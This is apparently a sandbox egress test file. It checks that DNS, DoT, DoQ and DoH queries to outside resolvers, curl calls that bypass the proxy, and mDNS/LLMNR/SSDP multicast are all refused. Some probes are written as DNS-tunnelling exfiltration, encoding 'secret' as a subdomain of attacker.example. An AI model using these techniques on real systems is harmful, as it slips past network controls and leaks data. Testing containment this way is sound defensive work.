#: number: 7
#: network: outside
#: title: Somebody else's resolver
#: technique: DNS over UDP and TCP to other resolvers, DoT, DoQ, DoH by name and by address, mDNS, LLMNR, SSDP.
#: reference: REQUIREMENTS N1; RFC 7858, RFC 9250, RFC 8484, RFC 6762, RFC 4795
#: expected: an error at once
#: control: without a sandbox each is answered, or sent
#: egress: {allow: [www.allowed.example]}

refused("dns-udp")(lambda: datagram(CANARY, 53, question("c2VjcmV0.attacker.example")))
refused("doq")(lambda: datagram(CANARY, 853, b"\xc0\0\0\0\x01vitrine-data"))


@refused("dns-tcp")
def _():
    asked = question("c2VjcmV0.attacker.example")
    return "%d bytes back" % len(answer_to(opened_tcp("8.8.8.8", 53), struct.pack(">H", len(asked)) + asked))


refused("dot")(lambda: echoed(opened_tcp("1.1.1.1", 853), client_hello("one.one.one.one")))
refused("doh-by-address")(lambda: curl("--noproxy", "*", "https://1.1.1.1/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"))
refused("doh-by-name")(lambda: curl("--noproxy", "*", "https://dns.denied.example/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"))
refused("doh-through-the-proxy")(lambda: curl("--proxy", "http://%s:3128" % GATEWAY, "https://dns.denied.example/dns-query"))


def shouted(group, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(question("printer.local"), (group, port))
        time.sleep(0.05)
        client.sendto(question("printer.local"), (group, port))
        return "sent"


refused("mdns")(lambda: shouted("224.0.0.251", 5353))
refused("llmnr")(lambda: shouted("224.0.0.252", 5355))
refused("ssdp")(lambda: shouted("239.255.255.250", 1900))


run()
